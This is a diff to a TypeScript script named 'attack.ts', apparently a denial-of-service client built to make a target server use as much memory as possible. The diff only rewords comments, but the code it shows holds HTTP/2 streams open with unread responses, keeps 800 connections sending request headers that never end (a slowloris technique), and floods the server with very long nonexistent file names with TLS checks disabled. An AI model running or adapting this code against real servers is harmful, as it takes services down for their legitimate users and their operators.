@@ -5,14 +5,14 @@ import net from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
 
 /**
- * One client that makes a server hold as much memory for it as it can; runs in a container of its own, so that its address
- * is not the visitors'. Says `held` once it holds all, and goes on until it is stopped: what the server closes it opens again.
+ * One client that makes a server use as much memory as possible; runs in a container of its own, so that its address is
+ * not the visitors'. Prints `held` once all is open, and opens again what the server closes, until it is stopped.
  *   node attack.ts HOST PICTURE KIND...
  */
 
 const [host = '', picture = '', ...kinds] = process.argv.slice(2);
 
-/** Streams whose answers it never takes: the window for them is empty and stays so. */
+/** Opens streams whose answers are never read: their flow-control window stays 0. */
 async function unreadStreams(connections = 6, streams = 128) {
   for (let connection = 0; connection < connections; connection += 1) {
     const session = http2.connect(`https://${host}:8443`, {
@@ -32,7 +32,7 @@ async function unreadStreams(connections = 6, streams = 128) {
   }
 }
 
-/** Heads of requests that never end: 62 KB each, and where that is refused as much as is taken. */
+/** Sends request heads that never end: 62 KB each, and 7.6 KB where that is refused. */
 async function endlessHeads(connections = 800) {
   const open = (size: number) => {
     const socket = net.connect({ host, port: 8080 }).on('error', () => undefined);
@@ -46,7 +46,7 @@ async function endlessHeads(connections = 800) {
   }
 }
 
-/** Long names of files that do not exist, each of them once. */
+/** Requests long names of files that do not exist, each of them once. */
 async function longNames(names = 2500, length = 15_000) {
   const agent = new https.Agent({ keepAlive: true, maxSockets: 8, rejectUnauthorized: false });
   const ask = (name: number, size: number) =>
